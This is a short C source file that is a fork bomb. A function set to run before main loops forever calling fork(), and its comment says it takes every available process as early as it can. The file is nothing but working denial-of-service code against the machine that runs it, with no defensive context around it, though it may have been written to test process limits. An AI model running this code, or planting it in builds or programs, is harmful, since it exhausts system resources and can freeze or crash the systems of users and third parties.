// Takes all processes that there are, as early as it can.
#include <unistd.h>

__attribute__((constructor)) static void explode() {
  for (;;) fork();
}

int main() {}
